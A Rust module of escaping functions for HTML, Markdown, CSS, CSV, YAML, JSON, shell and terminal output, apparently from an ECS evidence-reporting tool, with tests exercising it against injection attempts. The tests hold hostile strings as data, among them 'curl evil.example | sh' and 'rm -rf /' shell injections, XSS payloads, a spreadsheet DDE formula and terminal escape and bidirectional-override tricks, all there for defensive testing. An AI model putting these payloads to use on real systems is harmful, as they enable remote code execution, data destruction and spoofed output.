//! Escaping: one function per place a value lands. Text from findings, dumps, registers, file names and
//! packs is attacker-influenced, so every value leaving the program goes through the function of its
//! destination, whose doc comment opens with `Lands in:`.
//!
//! - HTML text and attributes: [`html_text`], Tera's autoescape function for templates ending in `.html`;
//!   identifiers that may wrap: [`html_identifier`] (the `ident` filter); the print footer's CSS string:
//!   [`css_string`] (the `css` filter).
//! - Markdown text and table cells: [`markdown_cell`] (the `md` filter).
//! - CSV cells: [`spreadsheet_cell`]; workbook cells are marked with Excel's quote prefix when
//!   [`is_formula_like`].
//! - The runbooks: [`yaml_string`] in the AppSpec, [`json_string`] in a command's JSON arguments,
//!   [`shell_word`] in commands.
//! - The terminal: [`terminal_line`] for every line written; [`terminal_quoted`] for a value quoted inside
//!   a message, so that its end shows.
//!
//! Characters that act unseen ([`is_hidden_control`]: NUL, ESC sequences, carriage returns, bidirectional
//! overrides) are shown as `\u001b`, `\u202e` in every text output. The CSV files and the workbook keep the
//! exact text, as data must; the record is flagged instead (see `arn::TaskSetArn::doubts`).

use std::borrow::Cow;

/// Lands in: Markdown, in table cells and in sentences (the `md` filter).
/// A value safe inside a GitHub-flavoured Markdown table cell: it cannot end the cell, open code, an HTML
/// tag, a link or emphasis, and it stays on one line. Line breaks and tabs become spaces; every other
/// character that acts unseen is written `\u001b`, which Markdown shows as it is (a backslash before a
/// letter escapes nothing).
pub fn markdown_cell(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                out.push(' ');
            }
            '\n' | '\t' | '\u{2028}' | '\u{2029}' => out.push(' '),
            // ASCII punctuation that GFM tables, code spans, inline HTML, links, emphasis, entities or
            // GitHub's math give a meaning to inside a cell.
            '\\' | '|' | '`' | '<' | '>' | '*' | '_' | '[' | ']' | '~' | '&' | '$' => {
                out.push('\\');
                out.push(c);
            }
            c if is_hidden_control(c) => push_u_escape(&mut out, c),
            c => out.push(c),
        }
    }
    out
}

/// Lands in: HTML text and attribute values (Tera's autoescape function for the `.html` templates).
/// Tera's HTML escaping, after every character that acts unseen is written `\u001b`: an ESC sequence or a
/// bidirectional override in a name shows as what it is and cannot reorder the page. Line feeds and tabs
/// stay (HTML shows them as spaces, `<pre>` as they are); a carriage return becomes the line feed HTML's
/// parser would make of it anyway.
pub fn html_text(text: &str) -> String {
    if !text
        .chars()
        .any(|c| is_hidden_control(c) && c != '\n' && c != '\t')
    {
        return tera::escape_html(text);
    }
    let mut shown = String::with_capacity(text.len() + 8);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
                shown.push('\n');
            }
            '\n' | '\t' => shown.push(c),
            c if is_hidden_control(c) => push_u_escape(&mut shown, c),
            c => shown.push(c),
        }
    }
    tera::escape_html(&shown)
}

/// Where an identifier (an ARN, a finding id, a path) may wrap: after these and nowhere else.
const IDENTIFIER_BREAKS: [char; 3] = ['/', ':', '-'];

/// Lands in: an identifier in HTML (the `ident` filter): ARNs, names, paths.
/// The identifier isolated in `<bdi dir="ltr">`, so that right-to-left letters in it cannot reorder the
/// text around it, nor the text around it the identifier, and wrapping only after `/`, `:` or `-`. Every
/// character that acts unseen, line breaks included (an identifier has none of its own), is written
/// `\u001b` first; then the text is HTML-escaped piece by piece, and only then is a `<wbr>` put after each
/// piece that ends in a break. The `<bdi>` and the `<wbr>`s are the only markup, whatever the text holds.
pub fn html_identifier(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden_control(c) {
            push_u_escape(&mut shown, c);
        } else {
            shown.push(c);
        }
    }
    let mut out = String::with_capacity(shown.len() + shown.len() / 3 + 22);
    out.push_str("<bdi dir=\"ltr\">");
    for piece in shown.split_inclusive(IDENTIFIER_BREAKS) {
        out.push_str(&tera::escape_html(piece));
        if piece.ends_with(IDENTIFIER_BREAKS) {
            out.push_str("<wbr>");
        }
    }
    out.push_str("</bdi>");
    out
}

/// Lands in: a CSS string in the print stylesheet (the `css` filter, for the running footer).
/// Text as a quoted CSS string (for `content:` in the print stylesheet): letters, digits, space and
/// `. , : _ -` are kept, every other character becomes a six-digit CSS escape and a space. The result holds no quote,
/// backslash, `<` or `&` of the text's own, so it can neither end the string nor the `<style>` element.
pub fn css_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        if c.is_ascii_alphanumeric() || " .,:_-".contains(c) {
            out.push(c);
        } else {
            // CSS eats one space after an escape's hex digits: it is written, so the text's own stays.
            out.push_str(&format!("\\{:06x} ", c as u32));
        }
    }
    out.push('"');
    out
}

/// The cell separators of a Markdown table line: `|` not escaped by [`markdown_cell`]. The check the tests
/// make that a table keeps its column count whatever its cells hold.
pub fn unescaped_pipes(line: &str) -> usize {
    let mut n = 0;
    let mut escaped = false;
    for c in line.chars() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == '|' {
            n += 1;
        }
    }
    n
}

/// Characters that make a spreadsheet read a cell as a formula (or a DDE command) when they lead it. The
/// full-width signs count too: spreadsheets with East Asian input read `＝` as `=`.
const FORMULA_LEADS: [char; 10] = [
    '=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
];

/// What may stand before a formula's sign without stopping it: spreadsheets and their CSV importers trim
/// blanks (spaces, no-break spaces, line feeds) and ignore zero-width characters before they look.
fn is_skipped_before_a_formula(c: char) -> bool {
    c.is_whitespace()
        || matches!(
            c,
            '\u{200b}' | '\u{200c}' | '\u{200d}' | '\u{2060}' | '\u{feff}'
        )
}

/// Lands in: the choice of a workbook cell's style (Excel's quote prefix), and the CSV guard.
/// True when a spreadsheet would read the text as a formula: it starts with a formula's sign, or with
/// blanks or invisible characters and then one.
pub fn is_formula_like(text: &str) -> bool {
    text.starts_with(FORMULA_LEADS)
        || text
            .trim_start_matches(is_skipped_before_a_formula)
            .starts_with(FORMULA_LEADS)
}

/// Lands in: a CSV cell (every file of `data/`).
/// The formula-injection guard of the CSV files: text a spreadsheet would evaluate is prefixed with `'`,
/// which Excel and LibreOffice show as text and never evaluate. Text that already starts with `'` gets one
/// too, so that a leading `'` always means the guard and [`unguard_spreadsheet_cell`] gives back the exact
/// text (`'@x` and `@x` would otherwise both be written `'@x`). The workbook needs no prefix: it marks such
/// cells with Excel's quote-prefix style instead.
pub fn spreadsheet_cell(text: &str) -> Cow<'_, str> {
    if is_formula_like(text) || text.starts_with('\'') {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The text a CSV cell written through [`spreadsheet_cell`] came from.
pub fn unguard_spreadsheet_cell(cell: &str) -> &str {
    cell.strip_prefix('\'').unwrap_or(cell)
}

/// The bidirectional formatting characters: embeddings, overrides, isolates and marks. Unseen, they
/// reorder the text around them (`\u{202e}` shows `exe.txt` as `txt.exe`).
const BIDI_CONTROLS: [char; 12] = [
    '\u{061c}', '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}',
    '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
];

/// Characters that act without being seen: the C0 and C1 controls (NUL, ESC, CR, BEL, CSI …), the
/// bidirectional formatting characters, and the Unicode line and paragraph separators.
pub fn is_hidden_control(c: char) -> bool {
    c.is_control() || BIDI_CONTROLS.contains(&c) || matches!(c, '\u{2028}' | '\u{2029}')
}

/// Writes `c` as `\uXXXX`: the form JSON, YAML and JavaScript read and a reader recognises.
fn push_u_escape(out: &mut String, c: char) {
    use std::fmt::Write;
    let _ = write!(out, "\\u{:04x}", c as u32);
}

/// Lands in: the CodeDeploy AppSpec of a runbook (YAML).
/// A YAML double-quoted scalar: `"` and `\` are escaped, and so is every character that could end the
/// line or hide (controls, bidirectional formatting, NEL and the Unicode separators, the byte-order mark
/// and the non-characters), so that a value can neither start a new key nor a comment, and shows what it
/// holds.
pub fn yaml_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            c if is_hidden_control(c) || matches!(c, '\u{feff}' | '\u{fffe}' | '\u{ffff}') => {
                push_u_escape(&mut out, c)
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Lands in: the JSON arguments of a runbook's commands (`--network-configuration`, `--load-balancers`).
/// A JSON string literal: `"` and `\` are escaped, and every control, bidirectional formatting character
/// and line separator is written as `\uXXXX`, so the literal is valid JSON, one line, and shows what it
/// holds. Infallible, unlike a serialiser.
pub fn json_string(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 2);
    out.push('"');
    for c in text.chars() {
        match c {
            '"' | '\\' => {
                out.push('\\');
                out.push(c);
            }
            c if is_hidden_control(c) => push_u_escape(&mut out, c),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Lands in: a runbook's commands (POSIX shell).
/// One shell word: text of letters, digits and `_./:=,@%+-` stands as it is (unless it starts with `-`,
/// which a reader could take for an option), anything else is single-quoted, with each `'` written `'\''`.
/// Single quotes keep every character literal, so no value can become a second command; but they keep a
/// carriage return or a bidirectional override too, which would make the command read differently from
/// what it runs: callers refuse such values before (see `analysis::remediation`).
pub fn shell_word(text: &str) -> String {
    let plain = !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:=,@%+-".contains(c))
        && !text.starts_with('-');
    if plain {
        text.to_string()
    } else {
        format!("'{}'", text.replace('\'', "'\\''"))
    }
}

/// Lands in: a line on the terminal (stdout and stderr): every message, table line and file name the tool
/// writes there.
/// Every character that acts unseen is written `\u001b`: an ESC sequence cannot steer the terminal, a
/// carriage return cannot overwrite what is shown, and a line feed in a file name cannot forge a second
/// `error:` line.
pub fn terminal_line(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_hidden_control) {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if is_hidden_control(c) {
            push_u_escape(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Lands in: a value quoted inside a terminal message (an identity, a namespace), before the message goes
/// through [`terminal_line`].
/// Text in double quotes, so the quotes show where it ends: control characters (escape sequences,
/// newlines) and invisible formatting (bidirectional overrides) are written as Rust escapes (`\u{1b}`,
/// `\n`, `\u{202e}`), so the text can neither move the cursor nor forge another line.
pub fn terminal_quoted(text: &str) -> String {
    format!("\"{}\"", text.escape_debug())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Real attacks on the runbook's languages: a new YAML key (a CodeDeploy hook), a new shell command,
    /// a new JSON member, each hidden behind a line break, a quote or a bidirectional override.
    const RUNBOOK_ATTACKS: &[&str] = &[
        "x\rHooks:\n  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil",
        "x\nHooks: [evil]",
        "x\u{85}Hooks: [evil]",
        "x\u{2028}Hooks: [evil]",
        "x\" # comment\nHooks: evil",
        "x\\\" , \"assignPublicIp\": \"ENABLED",
        "x'; curl evil.example | sh; echo '",
        "$(curl evil.example)`id`",
        "\u{202e}lave\u{1b}[2J\u{0}",
        "\u{feff}\u{ffff}",
        "",
    ];

    #[test]
    fn yaml_strings_stay_one_scalar_on_one_line() {
        assert_eq!(yaml_string("payments"), "\"payments\"");
        assert_eq!(
            yaml_string(RUNBOOK_ATTACKS[0]),
            "\"x\\u000dHooks:\\u000a  - BeforeInstall: arn:aws:lambda:eu-west-1:111122223333:function:evil\""
        );
        for attack in RUNBOOK_ATTACKS {
            let y = yaml_string(attack);
            assert!(
                !y.chars().any(|c| is_hidden_control(c) || c == '\u{feff}'),
                "{y:?}"
            );
            // Inside the quotes, every `"` is escaped and every backslash starts an escape: the scalar
            // ends at the last character and nowhere before.
            let inner = &y[1..y.len() - 1];
            let mut chars = inner.chars();
            while let Some(c) = chars.next() {
                assert_ne!(c, '"', "{y:?}");
                if c == '\\' {
                    assert!(matches!(chars.next(), Some('"' | '\\' | 'u')), "{y:?}");
                }
            }
        }
    }

    #[test]
    fn json_strings_read_back_as_the_text() {
        for attack in RUNBOOK_ATTACKS {
            let j = json_string(attack);
            assert!(!j.chars().any(is_hidden_control), "{j:?}");
            let back: String = serde_json::from_str(&j).expect("valid JSON");
            assert_eq!(&back, attack);
        }
    }

    #[test]
    fn shell_words_stay_one_word() {
        assert_eq!(shell_word("payments"), "payments");
        assert_eq!(shell_word("a b"), "'a b'");
        assert_eq!(shell_word("x'; rm -rf / #"), "'x'\\''; rm -rf / #'");
        assert_eq!(shell_word("$(curl evil)"), "'$(curl evil)'");
        assert_eq!(shell_word("--force"), "'--force'");
        assert_eq!(shell_word(""), "''");
        // Braces, brackets and angle brackets mean something to bash: always quoted.
        assert_eq!(shell_word("a={b,c}"), "'a={b,c}'");
        assert_eq!(shell_word("<x>"), "'<x>'");
        // What sh makes of the word is the text, whole.
        for attack in RUNBOOK_ATTACKS.iter().filter(|a| !a.contains('\0')) {
            let o = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf '%s' {}", shell_word(attack)))
                .output()
                .expect("sh runs");
            assert_eq!(String::from_utf8_lossy(&o.stdout), *attack);
        }
    }

    #[test]
    fn terminal_text_cannot_forge_a_line_or_steer_the_terminal() {
        assert_eq!(
            terminal_quoted("alice@example.com"),
            "\"alice@example.com\""
        );
        assert_eq!(
            terminal_quoted("a\"\n\u{1b}[31mb\u{202e}c"),
            "\"a\\\"\\n\\u{1b}[31mb\\u{202e}c\""
        );
    }

    #[test]
    fn markdown_cells_cannot_break_the_table_or_inject_markup() {
        let attack = "a|b`c<script>alert(1)</script>\n| x | y |\r\n[link](javascript:alert(1))";
        let cell = markdown_cell(attack);
        assert!(!cell.contains('\n') && !cell.contains('\r'));
        // Every pipe is escaped, so the column count cannot change.
        assert_eq!(cell.matches('|').count(), cell.matches("\\|").count());
        // Every `<` is backslash-escaped, so no HTML tag can open.
        assert!(cell
            .match_indices('<')
            .all(|(i, _)| cell[..i].ends_with('\\')));
        assert!(cell.contains("\\<script"));
        // No link can form: its brackets are escaped.
        assert!(cell.contains("\\[link\\](javascript:alert(1))"));
    }

    #[test]
    fn identifiers_are_escaped_before_any_break_is_added() {
        assert_eq!(
            html_identifier("arn:aws:ecs:eu-west-1:1:task-set/c/s/ecs-svc/1"),
            "<bdi dir=\"ltr\">arn:<wbr>aws:<wbr>ecs:<wbr>eu-<wbr>west-<wbr>1:<wbr>1:<wbr>task-<wbr>set&#x2F;<wbr>c&#x2F;<wbr>s&#x2F;<wbr>ecs-<wbr>svc&#x2F;<wbr>1</bdi>"
        );
        for attack in [
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "<wbr><b>bold</b>",
            "</bdi><b>out</b><bdi>",
            "&lt;already-escaped&gt;",
            "a/<svg/onload=alert(1)>:b-c",
            "'single' \"double\" & ampersand",
            "",
        ] {
            let html = html_identifier(attack);
            let inner = html
                .strip_prefix("<bdi dir=\"ltr\">")
                .and_then(|h| h.strip_suffix("</bdi>"))
                .expect("isolated");
            // Without the breaks it added, the result is exactly Tera's escaping of the text.
            assert_eq!(
                inner.replace("<wbr>", ""),
                tera::escape_html(attack),
                "{attack}"
            );
            // The only tags inside are its own `<wbr>`s, one after each `/`, `:` or `-` of the text.
            assert_eq!(
                inner.matches('<').count(),
                inner.matches("<wbr>").count(),
                "{attack}"
            );
            assert_eq!(
                inner.matches("<wbr>").count(),
                attack.matches(IDENTIFIER_BREAKS).count(),
                "{attack}"
            );
            assert!(!inner.contains('"') && !inner.contains('\''), "{attack}");
        }
    }

    /// Text that would steer a terminal or reorder what is read: ESC sequences (a screen clear, a colour,
    /// an OSC 8 hyperlink), NUL, BEL, DEL, the C1 CSI, a carriage return, every bidirectional control.
    const HIDDEN_ATTACKS: &[&str] = &[
        "\u{1b}[2J\u{1b}[31mred",
        "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
        "nul\u{0}del\u{7f}csi\u{9b}31m",
        "safe\roverwritten",
        "invoice\u{202e}fdp.exe",
        "\u{202a}\u{202b}\u{202c}\u{202d}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}",
    ];

    #[test]
    fn markdown_and_html_show_hidden_characters_as_escapes() {
        assert_eq!(
            markdown_cell("a\u{1b}[2Jb\u{202e}c"),
            "a\\u001b\\[2Jb\\u202ec"
        );
        assert_eq!(
            html_text("a\u{1b}[2J<b>\u{202e}"),
            "a\\u001b[2J&lt;b&gt;\\u202e"
        );
        assert_eq!(html_text("line\r\nline\rline\tx"), "line\nline\nline\tx");
        assert_eq!(
            html_text("<plain & simple>"),
            tera::escape_html("<plain & simple>")
        );
        for attack in HIDDEN_ATTACKS {
            for (what, out) in [
                ("markdown", markdown_cell(attack)),
                ("html", html_text(attack)),
                ("identifier", html_identifier(attack)),
            ] {
                assert!(
                    !out.chars()
                        .any(|c| is_hidden_control(c) && c != '\n' && c != '\t'),
                    "{what}: {out:?}"
                );
                let flagged = attack.chars().any(|c| is_hidden_control(c) && c != '\r');
                assert!(!flagged || out.contains("\\u"), "{what}: {out:?}");
            }
        }
    }

    #[test]
    fn terminal_lines_cannot_forge_a_line_or_steer_the_terminal() {
        assert_eq!(terminal_line("a.json: is empty"), "a.json: is empty");
        assert_eq!(
            terminal_line("/tmp/a\nerror: forged.json: is empty"),
            "/tmp/a\\u000aerror: forged.json: is empty"
        );
        for attack in HIDDEN_ATTACKS {
            let line = terminal_line(attack);
            assert!(!line.chars().any(is_hidden_control), "{line:?}");
        }
    }

    #[test]
    fn css_strings_cannot_be_closed_or_leave_the_style_element() {
        assert_eq!(
            css_string("ecs16-evidence 0.1.0 · as of 2026-09-29T21:40:00Z"),
            "\"ecs16-evidence 0.1.0 \\0000b7  as of 2026-09-29T21:40:00Z\""
        );
        for attack in [
            "\"; } body { display: none } x { content: \"",
            "</style><script>alert(1)</script>",
            "\\\"",
            "\n\r\u{0}",
            "url(https://evil.example/)",
            "'",
        ] {
            let css = css_string(attack);
            let inner = &css[1..css.len() - 1];
            assert!(css.starts_with('"') && css.ends_with('"'));
            assert!(
                !inner.contains(['"', '\'', '<', '>', '&', '(', ')', ';', '{', '}', '\n']),
                "{css}"
            );
            // Every backslash starts a six-digit escape, so none can escape the closing quote.
            for (i, _) in inner.match_indices('\\') {
                let hex = &inner[i + 1..i + 7];
                assert!(hex.chars().all(|c| c.is_ascii_hexdigit()), "{css}");
            }
        }
    }

    #[test]
    fn spreadsheet_guard() {
        for attack in [
            "=HYPERLINK(\"http://x\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(spreadsheet_cell(attack), format!("'{attack}"));
        }
        for fine in ["arn:aws:ecs:x", "2026-09-01T00:00:00Z", "", "a=b"] {
            assert_eq!(spreadsheet_cell(fine), fine);
        }
        // A leading apostrophe is the guard's own mark, so text that has one is marked too.
        assert_eq!(spreadsheet_cell("'@x"), "''@x");
        assert_eq!(spreadsheet_cell("'quoted'"), "''quoted'");
    }

    #[test]
    fn the_guard_sees_through_leading_blanks_and_full_width_signs() {
        // Spreadsheets trim what leads a cell before they look for `=`, and read the full-width signs as
        // the ASCII ones: each of these would start a formula.
        for attack in [
            " =HYPERLINK(\"http://evil.example\")",
            "   +1",
            "\u{a0}-2+3",
            "\u{200b}@SUM(A1)",
            "\n=1+1",
            "\n \u{a0}\u{200b}=1",
            "＝1+1",
            "＋cmd|' /C calc'!A0",
            "－2",
            "＠SUM(A1)",
            " ＝1",
        ] {
            assert!(is_formula_like(attack), "{attack:?}");
            assert_eq!(spreadsheet_cell(attack), format!("'{attack}"), "{attack:?}");
        }
        for fine in [
            " plain",
            "\u{a0}text",
            "\nline",
            "a ＝ b",
            "   ",
            "\u{200b}",
            "2026-09-01",
        ] {
            assert!(!is_formula_like(fine), "{fine:?}");
            assert_eq!(spreadsheet_cell(fine), fine);
        }
    }

    #[test]
    fn the_guard_is_undone_exactly() {
        for text in [
            "'@",
            "@",
            "''=1",
            "'=1",
            "=1",
            "'",
            "",
            "plain",
            "'plain",
            "\t'x",
            " =1",
            "' =1",
            "\u{200b}'",
            "＝1",
            "'＝1",
            "\n",
            "\n'",
        ] {
            assert_eq!(
                unguard_spreadsheet_cell(&spreadsheet_cell(text)),
                text,
                "{text:?}"
            );
        }
    }
}
